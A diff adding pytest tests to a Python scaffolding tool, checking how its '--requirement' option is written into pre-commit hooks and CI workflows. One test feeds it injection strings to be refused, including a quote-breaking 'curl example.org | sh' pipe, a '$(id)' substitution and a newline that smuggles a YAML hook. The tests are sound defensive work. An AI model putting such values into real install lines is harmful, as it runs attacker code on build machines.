@@ -9,6 +9,7 @@ import datetime as dt
 import json
 import os
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -16,6 +17,7 @@ import sysconfig
 import zipfile
 from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
 import jsonschema
 import pytest
@@ -511,3 +513,166 @@ def test_the_installed_wheel_starts_a_playbook_that_validates_and_builds(
     assert "Reorder reminders for consumables" in home
     assert f"playbook/workshops/{STARTER_ID}/" in home
     assert modeline_target(root / STARTER).is_file()
+
+
+# --- how the new playbook installs prepbook --------------------------------------------
+
+
+def install_lines(root: Path) -> dict[str, str]:
+    """The requirement each place of a new playbook installs prepbook with: the hook's
+    additional dependency, and the requirement of each workflow's ``pip install``."""
+    config = yaml.safe_load((root / ".pre-commit-config.yaml").read_text())
+    [hook] = config["repos"][0]["hooks"]
+    [dependency] = hook["additional_dependencies"]
+    found = {"pre-commit hook": dependency}
+    for name in ("review.yml", "publish.yml"):
+        workflow = yaml.safe_load((root / ".github" / "workflows" / name).read_text())
+        runs = [s["run"] for job in workflow["jobs"].values() for s in job["steps"] if "run" in s]
+        [install] = [r for r in runs if r.startswith("pip install")]
+        [requirement] = shlex.split(install)[2:]  # as the runner's shell reads the line
+        found[name] = requirement
+    return found
+
+
+@pytest.mark.parametrize(
+    ("given", "written"),
+    [
+        ("0.3.1", "prepbook==0.3.1"),
+        ("prepbook>=0.1,<0.3", "prepbook>=0.1,<0.3"),
+        (
+            "git+https://someone:secret@example.org/team/prepbook@v0.1.0",
+            "prepbook @ git+https://example.org/team/prepbook@v0.1.0",
+        ),
+        (
+            "https://example.org/prepbook-0.1.0.whl",
+            "prepbook @ https://example.org/prepbook-0.1.0.whl",
+        ),
+    ],
+)
+def test_requirement_sets_every_pin(tmp_path: Path, given: str, written: str) -> None:
+    done = prepbook("init", "book", "--requirement", given, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert set(install_lines(tmp_path / "book").values()) == {written}
+    assert f'pip install "{written}"' in (tmp_path / "book" / "README.md").read_text()
+    assert f"prepbook is installed by: {written}" in done.stderr
+    assert "secret" not in "".join(p.read_text() for p in (tmp_path / "book").rglob("*.y*ml"))
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        'prepbook==0.1.0" && curl example.org | sh && echo "',
+        "prepbook @ git+https://example.org/x@v1 $(id)",
+        "prepbook @ git+https://example.org/x@v1 #",
+        "flask==2.0",
+        "javascript://x",
+        "no-such-path",
+        "0.1.0\nhooks: [evil.py]",
+    ],
+)
+def test_a_requirement_that_is_not_one_is_refused(tmp_path: Path, given: str) -> None:
+    done = prepbook("init", "book", "--requirement", given, cwd=tmp_path)
+    assert done.returncode == 2 and done.stderr.startswith("prepbook init: --requirement: ")
+    assert len(done.stderr.splitlines()) == 1 and not (tmp_path / "book").exists()
+
+
+def test_the_pins_follow_how_prepbook_was_installed() -> None:
+    """Read off the installation's direct_url.json (PEP 610)."""
+    from importlib import metadata
+
+    from prepbook.scaffold.requirement import installed_pin
+
+    class Installed(metadata.Distribution):
+        def __init__(self, direct_url: str | None) -> None:
+            self.direct_url = direct_url
+
+        def read_text(self, filename: str) -> str | None:
+            return self.direct_url if filename == "direct_url.json" else None
+
+        def locate_file(self, path: Any) -> Path:
+            raise NotImplementedError
+
+    def pin(direct_url: object) -> tuple[str, bool]:
+        found = installed_pin(Installed(None if direct_url is None else json.dumps(direct_url)))
+        return found.requirement, found.note is not None
+
+    version = f"prepbook=={__version__}"
+    assert pin(None) == (version, False)  # from the package index
+    git_install = {
+        "url": "https://example.org/team/prepbook",
+        "vcs_info": {"vcs": "git", "requested_revision": "v0.1.0", "commit_id": "a" * 40},
+    }
+    assert pin(git_install) == ("prepbook @ git+https://example.org/team/prepbook@v0.1.0", False)
+    del git_install["vcs_info"]["requested_revision"]  # type: ignore[attr-defined]
+    assert pin(git_install)[0] == f"prepbook @ git+https://example.org/team/prepbook@{'a' * 40}"
+    wheel_url = {"url": "https://example.org/prepbook-0.1.0-py3-none-any.whl", "archive_info": {}}
+    assert pin(wheel_url) == (f"prepbook @ {wheel_url['url']}", False)
+    # from this machine only: the version, and a note that says why
+    assert pin({"url": "file:///tmp/prepbook", "dir_info": {"editable": True}}) == (version, True)
+    assert pin({"url": "file:///tmp/p.whl", "archive_info": {}}) == (version, True)
+
+
+def test_the_written_install_lines_resolve_offline_from_a_local_wheel(
+    wheel: Path, tmp_path: Path
+) -> None:
+    """What the hook and both workflows install resolves to the wheel, with no index: by
+    version from a folder of wheels (as an index would serve it), and by path."""
+    for given in (__version__, str(wheel)):
+        root = tmp_path / f"book-{len(given)}"
+        done = prepbook("init", str(root), "--requirement", given, cwd=tmp_path)
+        assert done.returncode == 0, done.stderr
+        for place, requirement in install_lines(root).items():
+            target = tmp_path / "installed" / place / str(len(given))
+            installed = run(
+                [
+                    *(sys.executable, "-m", "pip", "install", "--no-index", "--no-deps"),
+                    *("--find-links", str(wheel.parent), "--target", str(target), requirement),
+                ],
+                tmp_path,
+            )
+            assert installed.returncode == 0, (place, requirement, installed.stderr)
+            assert (target / "prepbook" / "__init__.py").is_file(), place
+    assert "only this machine can install from" in done.stderr  # the path's note
+
+
+def test_the_release_tries_its_wheel_as_the_workflow_says(wheel: Path, tmp_path: Path) -> None:
+    """The release workflow's check of the wheel, its shell lines run as they stand, with
+    the wheel built here in dist/ and the dependencies of this environment in sight (the
+    runner downloads them)."""
+    release = yaml.safe_load((REPO / ".github" / "workflows" / "release.yml").read_text())
+    [script] = [
+        s["run"]
+        for s in release["jobs"]["build"]["steps"]
+        if "init new-playbook" in s.get("run", "")
+    ]
+    workspace, runner = tmp_path / "workspace", tmp_path / "runner"
+    (workspace / "dist").mkdir(parents=True)
+    shutil.copy(wheel, workspace / "dist")
+    venv = runner / "try"
+    assert run([sys.executable, "-m", "venv", str(venv)], tmp_path).returncode == 0
+    purelib = run(
+        [
+            str(venv / "bin" / "python"),
+            "-c",
+            "import sysconfig; print(sysconfig.get_paths()['purelib'])",
+        ],
+        tmp_path,
+    ).stdout.strip()
+    ours = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}
+    (Path(purelib) / "test-dependencies.pth").write_text("\n".join(sorted(ours)) + "\n")
+    env = {
+        **{k: v for k, v in environment().items() if k != "PYTHONPATH"},
+        "RUNNER_TEMP": str(runner),
+        "GITHUB_REF_NAME": f"v{__version__}",
+        "PIP_NO_INDEX": "1",
+    }
+    done = run(["bash", "-e", "-o", "pipefail", "-c", script], workspace, env)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    assert "0 errors, 0 warnings, 0 info" in done.stdout
+    assert (runner / "new-playbook" / "site" / "index.html").is_file()
+    where = run(
+        [str(venv / "bin" / "python"), "-c", "import prepbook; print(prepbook.__file__)"],
+        tmp_path,
+        env,
+    )
+    assert Path(where.stdout.strip()).is_relative_to(venv)
